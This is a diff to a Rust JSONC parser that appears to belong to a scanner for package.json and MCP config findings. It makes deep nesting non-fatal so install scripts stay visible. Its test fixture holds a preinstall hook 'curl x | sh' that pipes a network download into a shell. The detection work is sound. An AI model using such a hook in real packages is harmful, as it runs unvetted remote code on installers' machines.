@@ -1,6 +1,8 @@
 //! A small JSON reader that remembers where every key and value sits, so a finding in `package.json` or an
 //! MCP config can point at the exact line. It accepts the comments and trailing commas of JSONC (VS Code's
-//! `mcp.json` uses them) and refuses nesting deeper than [`MAX_DEPTH`] instead of overflowing the stack.
+//! `mcp.json` uses them). A value nested deeper than [`MAX_DEPTH`] is read without recursion and kept as
+//! raw text, so nesting can neither overflow the stack nor make the whole document (and the install
+//! scripts in it) unreadable: JavaScript's `JSON.parse` accepts such a file, so must we.
 
 use std::fmt;
 
@@ -156,11 +158,9 @@ impl Parser<'_> {
     }
 
     fn value(&mut self, depth: usize) -> Result<JsonNode, JsonError> {
-        if depth > MAX_DEPTH {
-            return Err(self.error("nested more than 256 levels deep"));
-        }
         let start = self.pos;
         let value = match self.bytes.get(self.pos) {
+            Some(b'{' | b'[') if depth >= MAX_DEPTH => self.skip_nested()?,
             Some(b'{') => self.object(depth)?,
             Some(b'[') => self.array(depth)?,
             Some(b'"') => JsonValue::String(self.string()?),
@@ -171,6 +171,40 @@ impl Parser<'_> {
             value,
             span: (start, self.pos),
         })
+    }
+
+    /// Steps over one object or array, however deep, with a counter instead of recursion; its text is
+    /// kept as a scalar.
+    fn skip_nested(&mut self) -> Result<JsonValue, JsonError> {
+        let start = self.pos;
+        let mut open = 0usize;
+        loop {
+            match self.bytes.get(self.pos) {
+                Some(b'{' | b'[') => {
+                    open += 1;
+                    self.pos += 1;
+                }
+                Some(b'}' | b']') => {
+                    open = open.saturating_sub(1);
+                    self.pos += 1;
+                    if open == 0 {
+                        return Ok(JsonValue::Scalar(self.text[start..self.pos].to_string()));
+                    }
+                }
+                Some(b'"') => {
+                    self.string()?;
+                }
+                Some(b'/') => {
+                    let before = self.pos;
+                    self.skip_trivia()?;
+                    if self.pos == before {
+                        self.pos += 1;
+                    }
+                }
+                Some(_) => self.pos += 1,
+                None => return Err(self.error("unexpected end of input")),
+            }
+        }
     }
 
     fn object(&mut self, depth: usize) -> Result<JsonValue, JsonError> {
@@ -343,10 +377,23 @@ mod tests {
     }
 
     #[test]
-    fn deep_nesting_is_refused_not_overflowed() {
-        let text = "[".repeat(100_000);
-        let err = parse_json(&text).unwrap_err();
-        assert!(err.message.contains("nested"));
+    fn deep_nesting_neither_overflows_nor_hides_the_rest() {
+        let err = parse_json(&"[".repeat(100_000)).unwrap_err();
+        assert!(err.message.contains("end of input"));
+        let deep = format!("{}1{}", "[".repeat(10_000), "]".repeat(10_000));
+        let text = format!(
+            r#"{{"a": {deep}, "scripts": {{"preinstall": "curl x | sh"}}, "b": {{"s": "]]}}"}}}}"#
+        );
+        let root = parse_json(&text).unwrap();
+        let hook = root.get("scripts").and_then(|s| s.get("preinstall"));
+        assert_eq!(hook.and_then(|v| v.as_str()), Some("curl x | sh"));
+        let deep_text = format!("[{deep}, \"]\", /* ] */ 2]");
+        let wrapped = format!(
+            "{}{deep_text}{}",
+            "[".repeat(MAX_DEPTH),
+            "]".repeat(MAX_DEPTH)
+        );
+        assert!(parse_json(&wrapped).is_ok());
     }
 
     #[test]
